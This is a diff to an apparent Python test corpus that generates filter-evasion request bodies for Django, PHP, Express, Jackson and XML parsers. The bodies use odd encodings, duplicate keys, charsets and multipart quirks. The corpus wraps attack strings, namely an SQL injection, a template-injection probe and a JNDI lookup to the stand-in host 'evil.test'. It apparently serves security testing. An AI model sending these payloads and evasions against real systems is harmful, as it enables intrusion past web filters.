@@ -3,9 +3,15 @@
 import base64
 import json
 import quopri
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from typing import NamedTuple
 from urllib.parse import quote, quote_plus
+
+from tests.corpora.evasions import codings, form_quirks, json_quirks, part_quirks, xml_quirks
+from tests.corpora.evasions.making import FORM, JSON, Made, Make, all_encoded, escaped
+from tests.corpora.evasions.making import form as _form
+from tests.corpora.evasions.making import json_text as _json
+from tests.corpora.evasions.making import parts as _parts
 
 PAYLOADS = {
     "condition": "1' or 1=1--",
@@ -17,7 +23,6 @@ PAYLOADS = {
     "template": "{{7*7}}",
     "look-up": "${jndi:ldap://evil.test/a}",
 }
-FORM, JSON, PARTS = "application/x-www-form-urlencoded", "application/json", "multipart/form-data; boundary=b"
 
 
 class Evasion(NamedTuple):
@@ -27,23 +32,12 @@ class Evasion(NamedTuple):
     site: str
     kind: str
     body: bytes
+    coding: str
     payload: str
 
 
-Made = tuple[str, bytes]
-Make = Callable[[str], Made]
-
-
-def _all_encoded(text: str) -> str:
-    return "".join(f"%{byte:02x}" for byte in text.encode())
-
-
-def _form(template: str, kind: str = FORM, encode: Callable[[str], str] = quote_plus) -> Make:
-    return lambda payload: (kind, template.replace("{}", encode(payload)).encode("latin-1"))
-
-
 def _coded_form(charset: str, python: str) -> Make:
-    return lambda payload: (f"{FORM}; charset={charset}", f"a={quote(payload.encode(python))}".encode())
+    return lambda payload: Made(f"{FORM}; charset={charset}", f"a={quote(payload.encode(python))}".encode())
 
 
 _LINES = "Some notes of ours about this and that.\r\nThey begin in May,\r\nand end in June.\r\n{}\r\nThat is all.\r\n"
@@ -52,7 +46,7 @@ _SCRAMBLED = "ab!cd#ef$gh*ij+kl-mn.op/qr:st;uv<wx=yz>ab?cd@ef[gh]ij^kl_mn`op{qr|
 FORMS: dict[str, Make] = {
     "plain": _form("a={}"),
     "blanks as %20": _form("a={}", encode=lambda text: quote(text, safe="")),
-    "every byte encoded": _form("a={}", encode=_all_encoded),
+    "every byte encoded": _form("a={}", encode=all_encoded),
     "raw": _form("a={}", encode=lambda text: text.replace("+", "%2B").replace("&", "%26").replace(";", "%3B")),
     "the last of two": _form("a=1&a={}"),
     "the first of two": _form("a={}&a=1"),
@@ -95,17 +89,6 @@ DJANGO_FORMS: dict[str, Make] = {
     "charset of IBM": _coded_form("cp037", "cp037"),
     "charset utf-7": _coded_form("utf-7", "utf-7"),
 }
-
-
-def _parts(
-    head: str = 'Content-Disposition: form-data; name="a"', kind: str = PARTS, end: str = "\r\n", tail: str = "--",
-    before: str = "", encode: Callable[[str], str] = str,
-) -> Make:  # fmt: skip
-    def make(payload: str) -> Made:
-        lines = f"{before}--b\n{head}\n\n{encode(payload)}\n--b{tail}\n".replace("\n", end)
-        return kind, lines.encode("latin-1")
-
-    return make
 
 
 def _other_field(count: int) -> str:
@@ -153,34 +136,26 @@ MULTIPARTS: dict[str, Make] = {
 }
 
 
-def _json(template: str, kind: str = JSON, code: str = "utf-8", encode: Callable[[str], str] = json.dumps) -> Make:
-    return lambda payload: (kind, template.replace("{}", encode(payload)).encode(code))
-
-
-def _escaped(text: str) -> str:
-    return '"' + "".join(f"\\u{ord(each):04x}" for each in text) + '"'
-
-
 def _escaped_in_capitals(text: str) -> str:
     return '"' + "".join(f"\\u{ord(each):04X}" for each in text) + '"'
 
 
 JSONS: dict[str, Make] = {
     "JSON": _json('{"a":{}}'),
-    "JSON in escapes": _json('{"a":{}}', encode=_escaped),
+    "JSON in escapes": _json('{"a":{}}', encode=escaped),
     "JSON in escapes in capitals": _json('{"a":{}}', encode=_escaped_in_capitals),
     "JSON with escaped slashes": _json('{"a":{}}', encode=lambda text: json.dumps(text).replace("/", "\\/")),
     "the last of two keys": _json('{"a":1,"a":{}}'),
     "the first of two keys": _json('{"a":{},"a":1}'),
     "keys that are equal when decoded": _json('{"a":1,"\\u0061":{}}'),
     "a key": _json("{{}:1}"),
-    "a key in escapes": _json("{{}:1}", encode=_escaped),
+    "a key in escapes": _json("{{}:1}", encode=escaped),
     "a text alone": _json("{}"),
     "a list of lists": _json("[[[[{}]]]]"),
     "100 levels": _json('{"a":' * 100 + "{}" + "}" * 100),
     "the 601st text": _json("[" + '"some words here",' * 600 + "{}]"),
     "white space": _json(' \r\n\t{ "a" \n:\t{} } '),
-    "a byte order mark": lambda payload: (JSON, b"\xef\xbb\xbf" + json.dumps({"a": payload}).encode()),
+    "a byte order mark": lambda payload: Made(JSON, b"\xef\xbb\xbf" + json.dumps({"a": payload}).encode()),
     "UTF-16 BE": _json('{"a":{}}', code="utf-16-be"),
     "UTF-16 LE": _json('{"a":{}}', code="utf-16-le"),
     "UTF-16 with a mark": _json('{"a":{}}', code="utf-16"),
@@ -197,26 +172,42 @@ JSONS: dict[str, Make] = {
     "half a surrogate pair": _json('{"a":"\\ud800","b":{}}'),
     "JSON in JSON": _json('{"a":{}}', encode=lambda text: json.dumps(json.dumps([text]))),
     "an empty name": _json('{"":{}}'),
-    "JSON with several lines": lambda payload: (JSON, json.dumps({"a": _LINES.replace("{}", payload)}).encode()),
-    "JSON with a long sentence": lambda payload: (JSON, json.dumps({"a": _SENTENCE.replace("{}", payload)}).encode()),
-    "JSON with punctuation": lambda payload: (JSON, json.dumps({"a": _SCRAMBLED + payload}).encode()),
-    "JSON with a function": lambda payload: (JSON, json.dumps({"a": "function(a){} " + payload}).encode()),
-    "JSON with control characters": lambda payload: (
+    "JSON with several lines": lambda payload: Made(JSON, json.dumps({"a": _LINES.replace("{}", payload)}).encode()),
+    "JSON with a long sentence": lambda payload: Made(
+        JSON, json.dumps({"a": _SENTENCE.replace("{}", payload)}).encode()
+    ),
+    "JSON with punctuation": lambda payload: Made(JSON, json.dumps({"a": _SCRAMBLED + payload}).encode()),
+    "JSON with a function": lambda payload: Made(JSON, json.dumps({"a": "function(a){} " + payload}).encode()),
+    "JSON with control characters": lambda payload: Made(
         JSON,
         json.dumps({"a": "\x01\x02\x03\x04\x05\x06\x07\x08" * 40 + payload}).encode(),
     ),
 }
-SITES: dict[str, dict[str, Make]] = {
+_PLAIN: dict[str, dict[str, Make]] = {
     "Django": {**FORMS, **DJANGO_FORMS, **MULTIPARTS, **JSONS},
     "PHP": {**FORMS, **MULTIPARTS},
     "Express": {**FORMS, **MULTIPARTS},
     "Jackson": JSONS,
 }
+_QUIRKS: dict[str, dict[str, Make]] = {
+    "Django": {**form_quirks.FORMS, **part_quirks.MULTIPARTS, **part_quirks.DJANGO, **json_quirks.JSONS},
+    "PHP": {**form_quirks.FORMS, **part_quirks.MULTIPARTS},
+    "Express": {**form_quirks.FORMS, **part_quirks.MULTIPARTS},
+    "Jackson": json_quirks.JSONS,
+    "body-parser": {**form_quirks.FORMS, **json_quirks.JSONS, **codings.CODINGS, **codings.CHARSETS},
+    "Django REST": codings.CHARSETS,
+    "expat": xml_quirks.XMLS,
+    "libxml2": xml_quirks.XMLS,
+    "Xerces": xml_quirks.XMLS,
+}
+SITES: dict[str, dict[str, Make]] = {site: _PLAIN.get(site, {}) | makes for site, makes in _QUIRKS.items()}
 
 
 def rows() -> Iterator[Evasion]:
-    """Yield every payload in every form, for every site; by turns four of the eight payloads for each form."""
-    for site, makes in SITES.items():
-        for number, (name, make) in enumerate(makes.items()):
-            for attack, payload in list(PAYLOADS.items())[number % 2 :: 2]:
-                yield Evasion(f"{site}, {name}: {attack}", site, *make(payload), payload)
+    """Yield payloads in every form, for every site; by turns some of the eight: four for each form, two for a quirk."""
+    for makes_by_site, step in ((_PLAIN, 2), (_QUIRKS, 4)):
+        for site, makes in makes_by_site.items():
+            for number, (name, make) in enumerate(makes.items()):
+                for attack, payload in list(PAYLOADS.items())[number % step :: step]:
+                    made = make(payload)
+                    yield Evasion(f"{site}, {name}: {attack}", site, made.kind, made.body, made.coding, payload)
